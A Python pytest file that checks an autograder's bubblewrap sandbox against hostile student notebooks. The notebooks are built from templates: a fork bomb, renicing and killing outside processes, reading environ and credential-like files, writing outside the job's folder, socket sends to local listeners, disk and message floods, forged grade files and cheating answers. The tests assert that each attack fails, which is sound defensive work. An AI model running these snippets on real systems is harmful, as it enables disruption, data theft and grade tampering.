"""The grader against a student who wants marks or wants to hurt others, judged from outside.

One grading run (``--jobs 2``, the grader in a subprocess of its own, HOME and TMPDIR pointing
at folders of this test) over two honest notebooks and three hostile ones, one per class of
attack:

* ``a_hostile_procs``: prlimit (file size 0, 3 open files), nice 19 and SCHED_IDLE on every
  process it can name (a sentinel, the grader found by its command line, the grader's other
  kernels) and SIGKILL on the sentinel; raising its own limits; a fork bomb; CPU spinners; a
  double fork into a new session with a cleared environment;
* ``c_hostile_io``: reading decoys (the submissions folder, HOME, the solutions in the checkout,
  other jobs' folders, other processes' command lines), writing outside its folder, TCP, UDP and
  unix sockets to listeners of this test, raw sockets, filling its disk, flooding the grader with
  a 128 MB print and oversized ZeroMQ messages; what it read goes into its written answer;
* ``e_hostile_answers``: answers that delegate to the package's implementations (forged records
  and the grader's own helpers: ``test_grading_hostile.py``).

From outside, the test checks the sentinel's and the grader's limits, nice value and scheduling
policy (sampled throughout), what the listeners received, the decoys' secret in every output of
the hostile notebooks (and a control string that a hostile notebook may read, to show the channel
works), files written outside, the grader's peak memory, processes and cgroups left behind, and
that each honest notebook gets exactly the grade it gets alone. Then the cases where isolation is
unavailable, simulated.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import psutil
import pytest

import _docs

from attention_lab.grading import batch
from attention_lab.grading import namespaces as N
from attention_lab.grading import sandbox as S
from attention_lab.grading.runner import defined_names

from _notebook_edits import insert_after, load, replace_answer

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"),
                                reason="the grader's sandbox is Linux-only")
# the hostile notebooks are run only where the sandbox contains them
contained = pytest.mark.skipif(bool(S.isolation_problem()),
                               reason=f"no isolation here: {S.isolation_problem()}")

ROOT = Path(__file__).resolve().parents[2]
NB = ROOT / "notebooks" / "exercises"
SOL2 = NB / "solutions" / "02_mechanics_exercises_solutions.ipynb"
STU2 = NB / "02_mechanics_exercises.ipynb"
BWRAP = shutil.which("bwrap")
TOKEN = f"iso{os.getpid()}x{int(time.time())}"
SECRET = "SECRET-" + TOKEN[::-1]  # only in decoy files and honest answers, never in hostile code
MARK = "603.25"  # the argument of every `sleep` a hostile notebook starts
MEMORY_MB = 1536
# the grader's own peak memory: its imports and a batch take about 150 MB here; without the
# caps, the 128 MB print alone adds about 380 MB
PEAK_MB = 300
# The peak from /proc (VmHWM, this process's own memory): ru_maxrss would also hold the peak of
# the pytest process that started it (Linux keeps it across a vfork and exec).
GRADER = ("import re, sys\n"
          "from attention_lab.grading import batch\n"
          "code = batch.main(sys.argv[1:])\n"
          "status = open('/proc/self/status').read()\n"
          "print('PEAK_KB', re.search(r'VmHWM:\\s*(\\d+)', status).group(1))\n"
          "sys.exit(code)\n")


def honest(secret: str, wrong: bool):
    """A level-2 notebook whose written answer carries ``secret`` (wrong: two wrong answers)."""
    nb = load(SOL2)
    for cell in nb.cells:
        if cell.cell_type == "code" and defined_names(cell.source, ["shift_invariance"]):
            cell.source += f"\nshift_invariance['consequence'] += ' {secret}'\n"
    if wrong:
        replace_answer(nb, "dot_scores", """
            def dot_scores(query, keys):
                return keys @ query / len(query)
        """)
        replace_answer(nb, "padding_mask", """
            def padding_mask(lengths, S):
                return np.arange(S)[None, :] <= np.asarray(lengths)[:, None]
        """)
    return nb


PROCS = '''
import os, resource, signal
SENTINEL, TOKEN = {sentinel}, {token!r}

def family():
    """The sentinel, the process whose command line has TOKEN (the grader), its descendants."""
    parent, grader = {{}}, set()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if TOKEN in open(f"/proc/{{pid}}/cmdline", "rb").read().decode("latin-1"):
                grader.add(int(pid))
            parent[int(pid)] = int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            pass
    found, grew = set(grader), True
    while grew:
        new = {{p for p, pp in parent.items() if pp in found}} - found
        found, grew = found | new, bool(new)
    return (found | {{SENTINEL}}) - {{os.getpid()}}

ATTACKS = {{
    "fsize": lambda p: resource.prlimit(p, resource.RLIMIT_FSIZE, (0, 0)),
    "nofile": lambda p: resource.prlimit(p, resource.RLIMIT_NOFILE, (3, 3)),
    "nice": lambda p: os.setpriority(os.PRIO_PROCESS, p, 19),
    "idle": lambda p: os.sched_setscheduler(p, os.SCHED_IDLE, os.sched_param(0)),
}}
hits = []
for pid in sorted(family()):
    for name, attack in ATTACKS.items():
        try:
            attack(pid)
            hits.append((pid, name))
        except OSError:
            pass
try:
    os.kill(SENTINEL, signal.SIGKILL)
    hits.append((SENTINEL, "kill"))
except OSError:
    pass
raise RuntimeError(f"procs hits: {{hits}}")
'''

OWN_LIMITS = '''
import resource
for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE"):
    try:
        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
    except (ValueError, OSError):
        pass
    soft, hard = resource.getrlimit(getattr(resource, name))
    try:
        resource.setrlimit(getattr(resource, name), (hard, hard))
    except (ValueError, OSError):
        pass
huge = bytearray({memory} * 2**20 + 2**29)
'''

FORKS = '''
import os, subprocess, sys
spin = [sys.executable, "-c", "while True: pass  # {mark}"]
spinners = [subprocess.Popen(spin) for _ in range(2)]
if os.fork() == 0:  # a grandchild in a new session, environment cleared, re-parented
    os.setsid()
    if os.fork() == 0:
        os.execve("/bin/sleep", ["sleep", "{mark}"], {{}})
    os._exit(0)
kids, why = [], ""
try:
    while len(kids) < 400:
        kids.append(subprocess.Popen(["sleep", "{mark}"]))
except OSError as exc:
    why = type(exc).__name__
n = len(kids)
for k in kids[2:]:  # leave room for the grader's harness; two stay behind
    k.kill()
    k.wait()
raise RuntimeError(f"forked {{n}} ({{why}})")
'''

IO = '''
import glob, json, os, socket
import attention_lab
READ = {read!r}
WRITE = {write!r}
checkout = os.path.dirname(os.path.dirname(attention_lab.__file__))
loot, proc = {{}}, {{}}

def grab(path, into):
    try:
        if os.path.isfile(path):
            with open(path, "rb") as fh:
                into[path] = fh.read(4000).decode("utf-8", "replace")
    except OSError:
        pass

for pattern in READ + [checkout + "/notebooks/**/*.ipynb", checkout + "/notebooks/**/*.py",
                       "/tmp/attention-lab-*/**/*", "/root/*", "/home/*/*"]:
    for path in glob.glob(pattern, recursive=True) or [pattern]:
        grab(path, loot)
for path in glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
    grab(path, proc)
proc["os.environ"] = json.dumps(dict(os.environ))
for folder in WRITE + [checkout, os.path.dirname(attention_lab.__file__), "/tmp"]:
    try:
        with open(os.path.join(folder, "pwned-{token}"), "w") as fh:
            fh.write("x")
    except OSError:
        pass
for family, kind, addr in {targets!r}:
    try:
        s = socket.socket(family, kind)
        s.settimeout(1)
        if kind == socket.SOCK_DGRAM:
            s.sendto(b"LEAK", tuple(addr))
        else:
            s.connect(tuple(addr) if isinstance(addr, list) else addr)
            s.sendall(b"LEAK")
    except OSError:
        pass
for args in ((socket.AF_PACKET, socket.SOCK_RAW, 768), (socket.AF_INET, socket.SOCK_RAW, 6)):
    try:
        s = socket.socket(*args)
        s.settimeout(2)
        loot[f"raw {{args}}"] = s.recv(65535).decode("latin-1")
    except OSError:
        pass
with open("control.txt", "w") as fh:
    fh.write("CONTROL-" + "{token}")
grab("control.txt", loot)
shift_invariance = {{"derivation": json.dumps(loot)[:4900], "consequence": json.dumps(proc)[:4900]}}
'''

DISK = '''
import errno, glob, os
def fill(prefix, files):
    written, why = 0, ""
    try:
        for i in range(files):
            with open(f"{prefix}-{i}", "wb") as fh:
                for _ in range(50):
                    fh.write(bytes(2**20))
                    written += 1
    except OSError as exc:
        why = errno.errorcode.get(exc.errno, str(exc.errno))
    for f in glob.glob(prefix + "-*"):
        os.remove(f)
    return f"{written} MB then {why}"
raise RuntimeError(f"disk: {fill('fill', 8)}; shm: {fill('/dev/shm/fill', 2)}; "
                   f"tmp: {fill('/tmp/fill', 2)}")
'''

FLOOD = '''
print("x" * (128 * 2**20))
kernel = get_ipython().kernel
for size, count in ((64 * 2**20, 1), (900 * 2**10, 100)):
    for _ in range(count):
        kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "y" * size},
                            ident=b"kernel.flood.status")
'''

DELEGATE = '''
import importlib
def stable_softmax(scores):
    return importlib.import_module("attention_lab.softmax").softmax(scores)
def dot_attention(Q, K, V):
    from attention_lab import attend
    return attend(Q, K, V).context
def bilinear_attention(Q, K, V, W):
    raise NotImplementedError
softmax_comparison = {"naive": [float("nan"), float("nan"), 0.0], "stable": [0.731, 0.269, 0.0]}
score_comparison = {"dot": (2, 5), "bilinear": (2, 5)}  # right: only the functions delegate
'''

DELEGATE_AT_DEFINITION = "from attention_lab.softmax import softmax as masked_softmax_safe"

class Listeners:
    """TCP, UDP, filesystem and abstract unix sockets on this machine, recording what arrives."""

    def __init__(self, folder: Path):
        self.received: list = []
        self.stop = threading.Event()
        tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        tcp.bind(("127.0.0.1", 0))
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.bind(("127.0.0.1", 0))
        self.path = str(folder / "listen.sock")
        unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        unix.bind(self.path)
        self.abstract = f"\0attention-lab-test-{TOKEN}"
        abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        abstract.bind(self.abstract)
        self.sockets = [tcp, udp, unix, abstract]
        inet, unix_, stream, dgram = (int(socket.AF_INET), int(socket.AF_UNIX),
                                      int(socket.SOCK_STREAM), int(socket.SOCK_DGRAM))
        self.targets = [(inet, stream, list(tcp.getsockname())),
                        (inet, dgram, list(udp.getsockname())),
                        (unix_, stream, self.path), (unix_, stream, self.abstract)]
        for s in self.sockets:
            s.settimeout(0.2)
            if s.type == socket.SOCK_STREAM:
                s.listen(8)
            threading.Thread(target=self._serve, args=(s,), daemon=True).start()

    def _serve(self, s):
        while not self.stop.is_set():
            try:
                if s.type == socket.SOCK_DGRAM:
                    self.received.append(s.recv(65535))
                else:
                    conn, _ = s.accept()
                    self.received.append(("connection", conn.recv(65535)))
            except OSError:
                continue

    def close(self):
        self.stop.set()
        time.sleep(0.3)
        for s in self.sockets:
            s.close()


class Watch:
    """Samples, until stopped: processes' limits, nice value and scheduling policy; and the
    capabilities of every kernel (and every ``sleep MARK``) below the grader."""

    def __init__(self, pids, grader: int):
        import psutil

        self.procs = {pid: psutil.Process(pid) for pid in pids}
        self.grader = psutil.Process(grader)
        self.first = {pid: self.sample(p) for pid, p in self.procs.items()}
        self.changes: list = []
        self.caps: dict = {}  # pid -> (CapEff, CapPrm, CapBnd) of a kernel or a `sleep MARK`
        self.cgroups: dict = {}  # cgroup file -> the values seen in the grader's job cgroups
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    @staticmethod
    def sample(p):
        import psutil

        return (p.rlimit(psutil.RLIMIT_FSIZE), p.rlimit(psutil.RLIMIT_NOFILE), p.nice(),
                os.sched_getscheduler(p.pid))

    def _capabilities(self):
        import psutil

        try:
            below = self.grader.children(recursive=True)
        except psutil.Error:
            return
        for p in below:
            try:
                argv = p.cmdline()
                kernel = "-f /job/in/kernel-" in " ".join(argv) and not any(
                    a.endswith(("bwrap", "launch.py")) for a in argv[:5])  # not its sandbox
                if kernel or argv == ["sleep", MARK]:
                    status = Path(f"/proc/{p.pid}/status").read_text().splitlines()
                    self.caps[p.pid] = tuple(x.split()[1] for x in status
                                             if x.startswith(("CapEff", "CapPrm", "CapBnd")))
            except (psutil.Error, OSError):
                pass

    def _run(self):
        import psutil

        while not self.stop.is_set():
            for pid, p in list(self.procs.items()):
                try:
                    now = self.sample(p)
                except psutil.Error:  # exited
                    del self.procs[pid]
                    continue
                if now != self.first[pid]:
                    self.changes.append((pid, self.first[pid], now))
            self._capabilities()
            self._cgroups()
            time.sleep(0.05)

    def _cgroups(self):
        for _, parent in N.cgroup_parents():
            for f in ("pids.max", "cpu.cfs_quota_us", "cpu.max"):
                for path in parent.glob(f"{N.CGROUP_PREFIX}{self.grader.pid}-*/{f}"):
                    try:
                        # only while a task is inside: a cgroup just made holds the kernel's
                        # defaults until the grader writes its limits (a fresh clone's CI read
                        # cpu.cfs_quota_us = -1 in that instant)
                        if (path.parent / "cgroup.procs").read_text().strip():
                            self.cgroups.setdefault(f, set()).add(path.read_text().strip())
                    except OSError:
                        pass

    def close(self):
        self.stop.set()
        self.thread.join(5)


def _cmdlines_with(*needles: str) -> list[str]:
    import psutil

    found = []
    for p in psutil.process_iter(["cmdline"]):
        try:
            line = " ".join(p.info["cmdline"] or [])
            if any(n in line for n in needles) and p.status() != psutil.STATUS_ZOMBIE:
                found.append(line[:200])
        except psutil.Error:
            pass
    return found


def _grade(sub: Path, out: Path, tmp: Path, jobs: int, env: dict) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-c", GRADER, str(sub), "--out", str(out), "--jobs", str(jobs),
         "--cell-timeout", "20", "--timeout", "120", "--memory-mb", str(MEMORY_MB),
         "--seed", "11", "--quiet"],
        env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=tmp)


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("isolation")
    sub, out, home, tmpdir = (tmp / f"subs-{TOKEN}", tmp / f"out-{TOKEN}", tmp / "home",
                              tmp / "tmp")
    for d in (sub, home, tmpdir):
        d.mkdir()
    (sub / "decoy.txt").write_text(SECRET)
    (home / "decoy.txt").write_text(SECRET)
    listeners = Listeners(tmp)
    sentinel = subprocess.Popen(["sleep", "600.5"])

    nbformat.write(honest(SECRET, wrong=False), str(sub / "b_honest_right.ipynb"))
    nbformat.write(honest(SECRET, wrong=True), str(sub / "d_honest_wrong.ipynb"))
    procs = insert_after(load(SOL2), "dot_scores",
                         PROCS.format(sentinel=sentinel.pid, token=TOKEN),
                         OWN_LIMITS.format(memory=MEMORY_MB), FORKS.format(mark=MARK))
    nbformat.write(procs, str(sub / "a_hostile_procs.ipynb"))
    outside = [str(sub), str(out), str(home), str(tmpdir), str(tmp)]
    io = insert_after(load(SOL2), "shift_invariance",
                      IO.format(read=[f"{d}/**/*" for d in outside], write=outside, token=TOKEN,
                                targets=listeners.targets),
                      DISK, FLOOD)
    nbformat.write(io, str(sub / "c_hostile_io.ipynb"))
    answers = load(STU2)
    answers.metadata.pop("attention_lab", None)  # no assignment: graded on every exercise
    answers.cells += [nbformat.v4.new_code_cell(src) for src in
                      (DELEGATE, DELEGATE_AT_DEFINITION)]
    nbformat.write(answers, str(sub / "e_hostile_answers.ipynb"))

    env = {**os.environ, "HOME": str(home), "TMPDIR": str(tmpdir), "GRADER_SECRET": SECRET}
    grader = _grade(sub, out, tmp, 2, env)
    watch = Watch([sentinel.pid, grader.pid], grader.pid)
    try:
        stdout, stderr = grader.communicate(timeout=400)
    finally:
        watch.close()
        listeners.close()
    time.sleep(0.5)
    left = _cmdlines_with(f"sleep {MARK}", f"# {MARK}", str(tmpdir))
    cgroups = [p for _, parent in N.cgroup_parents()
               for p in parent.glob(f"{N.CGROUP_PREFIX}{grader.pid}-*")]
    sentinel_alive = sentinel.poll() is None
    sentinel.kill()
    sentinel.wait()

    # the honest notebooks alone, same seed and limits
    alone_sub, alone_out = tmp / "alone", tmp / "alone-out"
    alone_sub.mkdir()
    for name in ("b_honest_right.ipynb", "d_honest_wrong.ipynb"):
        (alone_sub / name).write_bytes((sub / name).read_bytes())
    alone = _grade(alone_sub, alone_out, tmp, 1, env)
    alone.communicate(timeout=300)
    # no report at all when the grader was broken (its file size limit set to 0, say)
    report = json.loads((out / "grades.json").read_text()) if (out / "grades.json").exists() \
        else {"submissions": [], "grader": {"isolation": {}}}
    yield {"code": grader.returncode, "stdout": stdout, "stderr": stderr, "tmp": tmp,
           "sub": sub, "out": out, "home": home, "tmpdir": tmpdir, "report": report,
           "subs": {s["file"]: s for s in report["submissions"]},
           "alone": {s["file"]: s for s in
                     json.loads((alone_out / "grades.json").read_text())["submissions"]},
           "changes": watch.changes, "caps": watch.caps, "cgroup_values": watch.cgroups,
           "received": listeners.received,
           "left": left,
           "cgroups": cgroups, "sentinel_alive": sentinel_alive}


def events(sub: dict) -> dict:
    return {c["name"] + ": " + c["message"] for c in sub["cells"]}


def event(sub: dict, prefix: str) -> str:
    found = [e for e in events(sub) if e.startswith(prefix) or prefix in e]
    assert found, (prefix, events(sub))
    return found[0]


@contained
def test_every_submission_is_graded_and_the_report_written(run):
    assert run["code"] == 0, run["stderr"][-2000:]
    assert set(run["subs"]) == {"a_hostile_procs.ipynb", "b_honest_right.ipynb",
                                "c_hostile_io.ipynb", "d_honest_wrong.ipynb",
                                "e_hostile_answers.ipynb"}
    assert run["report"]["grader"]["isolation"]["sandbox"] == "bubblewrap"
    assert (run["out"] / "grades.csv").read_text().count("\n") == 6


@contained
def test_honest_submissions_get_the_grade_they_get_alone(run):
    for name in ("b_honest_right.ipynb", "d_honest_wrong.ipynb"):
        beside, alone = run["subs"][name], run["alone"][name]
        assert {i: (e["status"], e["message"]) for i, e in beside["exercises"].items()} == \
            {i: (e["status"], e["message"]) for i, e in alone["exercises"].items()}, name
        assert (beside["status"], beside["total"], beside["message"]) == \
            (alone["status"], alone["total"], alone["message"])
    assert run["subs"]["b_honest_right.ipynb"]["total"] == 6
    assert run["subs"]["d_honest_wrong.ipynb"]["total"] == 4


@contained
def test_kernels_run_without_capabilities_although_the_grader_is_root(run):
    assert len(run["caps"]) >= 5, run["caps"]  # five kernels and some of their `sleep`s seen
    assert set(run["caps"].values()) == {("0000000000000000",) * 3}, run["caps"]


@contained
def test_no_process_outside_the_job_can_be_limited_reniced_or_killed(run):
    assert run["changes"] == [], "a kernel changed the grader's or the sentinel's limits/nice"
    assert run["sentinel_alive"]
    assert event(run["subs"]["a_hostile_procs.ipynb"], "RuntimeError: procs hits:") == \
        "RuntimeError: procs hits: []"


def _pids_cgroups_expected() -> bool:
    """Whether this machine lets the grader create pids cgroups (as root, with a v1 pids
    hierarchy or pids enabled in the v2 tree): decided here, not by the grader's own code."""
    if os.geteuid() != 0:
        return False
    if os.access("/sys/fs/cgroup/pids", os.W_OK):
        return True
    try:
        return "pids" in Path("/sys/fs/cgroup/cgroup.subtree_control").read_text().split()
    except OSError:
        return False


@contained
def test_a_kernel_cannot_raise_its_limits_or_exceed_the_pids_limit(run):
    sub = run["subs"]["a_hostile_procs.ipynb"]
    assert any(e.startswith("MemoryError") for e in events(sub))  # 2 GB under a hard 1.5 GB
    forked = event(sub, "RuntimeError: forked")
    if _pids_cgroups_expected():
        n = int(forked.split()[2])
        assert n < 128 and "BlockingIOError" in forked, forked  # EAGAIN from the pids cgroup
        assert sub["sandbox"]["processes"] == 128 and "pids" in sub["sandbox"]["cgroups"]
        # seen from outside, in the job cgroups: 128 tasks, and one core where cpu is available
        assert run["cgroup_values"]["pids.max"] == {"128"}
        if os.access("/sys/fs/cgroup/cpu", os.W_OK):  # cgroup v1 with a cpu hierarchy
            assert run["cgroup_values"]["cpu.cfs_quota_us"] == {"100000"}
    assert sub["sandbox"]["memory_bytes"] == MEMORY_MB * 2 ** 20
    st = {i: e["status"] for i, e in sub["exercises"].items()}
    assert all(st[i] == "pass" for i in ("2.1", "2.2", "2.4", "2.5", "2.6", "2.7")), st


@contained
def test_no_process_or_cgroup_outlives_the_batch(run):
    assert run["left"] == []
    assert run["cgroups"] == []
    assert list(run["tmpdir"].iterdir()) == []  # the scratch folders are gone too


@contained
def test_nothing_outside_the_scratch_folder_is_read(run):
    io = run["subs"]["c_hostile_io.ipynb"]
    answer = io["exercises"]["2.3"]["answer"]
    assert "CONTROL-" + TOKEN in answer["derivation"]  # the channel works: its own file
    for name in ("a_hostile_procs.ipynb", "c_hostile_io.ipynb", "e_hostile_answers.ipynb"):
        text = json.dumps(run["subs"][name])
        assert SECRET not in text and TOKEN[::-1] not in text, name
        assert str(run["sub"]) not in text  # not even the submissions folder's path
    for line in (run["out"] / "grades.csv").read_text().splitlines():
        assert "hostile" not in line.split(",")[0] or SECRET not in line
    loot = json.loads(answer["derivation"])
    assert set(loot) == {"control.txt"}, sorted(loot)  # no other file, no raw socket data


@contained
def test_nothing_outside_the_scratch_folder_is_written_and_nothing_is_reachable(run):
    pwned = [p for p in run["tmp"].rglob(f"pwned-{TOKEN}")] + \
        [p for p in (ROOT, N.package_dir(), Path("/tmp")) if (p / f"pwned-{TOKEN}").exists()]
    assert pwned == []
    assert run["received"] == []  # TCP, UDP, unix and abstract unix sockets of this machine


@contained
def test_a_kernel_cannot_fill_the_disk_or_the_graders_memory(run):
    io = run["subs"]["c_hostile_io.ipynb"]
    disk = event(io, "RuntimeError: disk:")
    used, rest = disk.split("disk: ")[1].split("; shm: ")
    shm, tmp = rest.split("; tmp: ")
    assert tmp.endswith("ENOSPC") and int(tmp.split()[0]) <= N.TMP_MB, disk
    assert used.endswith("ENOSPC") and int(used.split()[0]) <= 256, disk
    assert shm.endswith("ENOSPC") and int(shm.split()[0]) <= N.SHM_MB, disk
    st = {i: e["status"] for i, e in io["exercises"].items()}
    assert all(st[i] == "pass" for i in ("2.1", "2.2", "2.4", "2.5", "2.6", "2.7")), st
    peak_kb = int(run["stdout"].split("PEAK_KB")[1].split()[0])
    assert peak_kb < PEAK_MB * 1024, f"the grader peaked at {peak_kb // 1024} MB"


@contained
def test_no_marks_for_the_packages_answers(run):
    sub = run["subs"]["e_hostile_answers.ipynb"]
    ex = sub["exercises"]
    for i in ("3.1", "3.3"):
        assert ex[i]["status"] == "fail", ex[i]
        assert "the package's own implementation" in ex[i]["message"], ex[i]["message"]
    assert ex["3.2"]["status"] == "fail"
    assert "not available to graded answers" in ex["3.2"]["message"]
    assert sub["total"] == 0 and ex["2.4"]["status"] == "not_attempted"


# ------------------------------------------------------------------ isolation unavailable
def test_without_isolation_the_grader_says_so_once_records_it_and_can_refuse(tmp_path, capsys,
                                                                              monkeypatch):
    problem = "simulated: this kernel does not allow user namespaces"
    monkeypatch.setattr(batch, "isolation_problem", lambda: problem)
    monkeypatch.setattr(S, "isolation_problem", lambda platform=sys.platform: problem)
    sub = tmp_path / "subs"
    sub.mkdir()
    for name in ("a.ipynb", "b.ipynb"):
        nb = nbformat.v4.new_notebook()
        nb.cells = [nbformat.v4.new_code_cell("def dot_scores(query, keys):\n"
                                              "    return keys @ query")]
        nbformat.write(nb, str(sub / name))

    def refuse(*args, **kwargs):
        raise AssertionError("a notebook was run although --require-sandbox was given")

    with monkeypatch.context() as m:
        m.setattr(batch, "grade_folder", refuse)
        assert batch.main([str(sub), "--out", str(tmp_path / "refused"), "--require-sandbox",
                           "--quiet"]) == 2
    err = capsys.readouterr().err
    assert f"grade: error: --require-sandbox: kernels cannot be isolated here: {problem}" in err
    assert not (tmp_path / "refused" / "grades.json").exists()

    assert batch.main([str(sub), "--out", str(tmp_path / "out"), "--quiet", "--seed", "3"]) == 0
    captured = capsys.readouterr()
    assert (captured.out + captured.err).count("kernels run without isolation") == 1
    report = json.loads((tmp_path / "out" / "grades.json").read_text())
    assert report["grader"]["isolation"] == {"sandbox": None, "problem": problem}
    for s in report["submissions"]:
        assert s["sandbox"]["isolation"] is None and s["exercises"]["2.1"]["status"] == "pass"


def _as_in_a_container(cmd: list[str]) -> list[str]:
    """``cmd`` where this Python, its venv and the checkout are open to every user, as in a
    container (here they may lie in a folder closed to others: root's home, a ``mktemp -d``
    clone): run by bubblewrap as root, without namespaces of users or processes, each closed
    folder on their way replaced by an open one that shows only them."""
    needed = sorted({Path(sys.base_prefix), Path(sys.prefix), ROOT})
    needed = [p for p in needed if not any(q in p.parents for q in needed)]
    opened: list[str] = []
    made: set[Path] = set()
    for path in needed:
        closed = [p for p in path.parents if p != Path("/") and not p.stat().st_mode & 0o001]
        if not closed:
            continue
        top = closed[-1]
        for way in [top, *(top / p for p in reversed(path.relative_to(top).parents[:-1]))]:
            if way not in made:
                made.add(way)
                opened += ["--perms", "0755", "--tmpfs" if way == top else "--dir", str(way)]
        opened += ["--bind", str(path), str(path)]
    return [BWRAP, "--dev-bind", "/", "/", *opened, "--", *cmd] if opened else cmd


@pytest.mark.skipif(os.geteuid() != 0 or not BWRAP, reason="needs a grader running as root")
def test_without_isolation_a_root_graders_kernels_cannot_touch_its_files(tmp_path):
    """Gradescope runs the autograder as root in a container whose seccomp profile may refuse
    bubblewrap's namespaces. A kernel started as root there rewrote results.json and the
    autograder's code, and left a process behind that rewrote the grade after the grading.
    Without isolation, a root grader now starts each job's kernels as a user of their own: they
    still get graded, and cannot write the grader's files, now or later."""
    (tmp_path / "bin").mkdir()
    fake = tmp_path / "bin" / "bwrap"  # as in such a container
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\n"
                    "exit 1\n")
    fake.chmod(0o755)
    results = Path(tempfile.mkdtemp(prefix="results-"))  # as /autograder/results: root's, 0755
    results.chmod(0o755)
    grade, code = results / "results.json", results / "run_autograder"
    grade.write_text("honest")
    code.write_text("#!/bin/sh\n")  # the autograder's code (and the lab's: root's files alike)
    late = (f"import os, time\nos.setsid()\nos.fork() and os._exit(0)\ntime.sleep(1)\n"
            f"open({str(grade)!r}, 'w').write('late')\nopen({str(results / 'late')!r}, 'w')")
    sub = tmp_path / "subs"
    sub.mkdir()
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(
        f"import os, subprocess, sys\n"
        f"def dot_scores(query, keys):\n    return keys @ query\n"
        f"for path in [{str(grade)!r}, {str(results / 'new')!r}, {str(code)!r}]:\n"
        f"    try:\n        open(path, 'a').write('forged')\n"
        f"    except OSError:\n        pass\n"
        f"subprocess.Popen([sys.executable, '-c', {late!r}])")]
    nbformat.write(nb, str(sub / "a.ipynb"))
    try:
        done = subprocess.run(_as_in_a_container(
            [sys.executable, "-m", "attention_lab", "grade", str(sub), "--out",
             str(tmp_path / "out"), "--quiet"]), capture_output=True, text=True, timeout=300,
            cwd=ROOT, env={**os.environ, "PATH": f"{fake.parent}:{os.environ['PATH']}"})
        assert done.returncode == 0, done.stderr
        deadline = time.monotonic() + 30  # the process left behind: until it has given up
        while time.monotonic() < deadline and any(
                str(results) in " ".join(p.info["cmdline"] or ())
                for p in psutil.process_iter(["cmdline"])):
            time.sleep(0.2)
        assert (grade.read_text(), code.read_text()) == ("honest", "#!/bin/sh\n")
        assert sorted(p.name for p in results.iterdir()) == ["results.json", "run_autograder"]
        assert "can read what any user can read" in done.stderr, done.stderr
        (s,) = json.loads((tmp_path / "out" / "grades.json").read_text())["submissions"]
        assert s["exercises"]["2.1"]["status"] == "pass", s["exercises"]["2.1"]
        assert re.fullmatch(r"uid \d+ \(this job's own, no login\)", s["sandbox"]["user"])
    finally:
        shutil.rmtree(results, ignore_errors=True)


def test_every_test_the_threat_model_names_exists():
    """The threat model (the site's design page on grading) backs each claim with a test by
    name: each one must exist."""
    model = _docs.section("design/grading.md", "How grading works, and the threat model")
    named = set(re.findall(r"\b(test_[a-z0-9_]+)\b(?!\.py)", model))  # not the modules
    defined = {m for f in (ROOT / "tests").rglob("test_*.py")
               for m in re.findall(r"^def (test_[a-z0-9_]+)", f.read_text(), re.MULTILINE)}
    assert len(named) >= 20 and named <= defined, sorted(named - defined)


@contained
def test_a_grader_that_dies_takes_its_kernels_along_and_the_next_run_cleans_up(tmp_path,
                                                                            monkeypatch):
    """SIGKILL the grader mid-batch: its kernels and everything they started die with it (the
    launcher's parent-death signal, then the namespace), and the next run removes the scratch
    folder and the cgroups it left."""
    mark = "604.25"
    sub, tmpdir = tmp_path / "subs", tmp_path / "tmp"
    sub.mkdir()
    tmpdir.mkdir()
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(f"import subprocess, time\n"
                                          f"subprocess.Popen(['sleep', '{mark}'])\n"
                                          f"time.sleep(120)")]
    nbformat.write(nb, str(sub / "a.ipynb"))
    grader = _grade(sub, tmp_path / "out", tmp_path, 1, {**os.environ, "TMPDIR": str(tmpdir)})
    try:
        deadline = time.monotonic() + 120
        while not _cmdlines_with(f"sleep {mark}") and time.monotonic() < deadline:
            time.sleep(0.2)
        assert _cmdlines_with(f"sleep {mark}"), "the kernel never started"
    finally:
        grader.kill()
        grader.communicate()
    deadline = time.monotonic() + 10
    while _cmdlines_with(f"sleep {mark}", str(tmpdir)) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert _cmdlines_with(f"sleep {mark}", str(tmpdir)) == []
    left = [p for p in tmpdir.iterdir() if p.name.startswith(S.SCRATCH_PREFIX)]
    cgroups = [p for _, parent in N.cgroup_parents()
               for p in parent.glob(f"{N.CGROUP_PREFIX}{grader.pid}-*")]
    assert len(left) == 1  # what the dead grader left, until the next run
    monkeypatch.setattr(S, "GRACE_SECONDS", 0)
    assert S.clean_stale(tmpdir) == left and list(tmpdir.iterdir()) == []
    assert all(not p.exists() for p in cgroups)
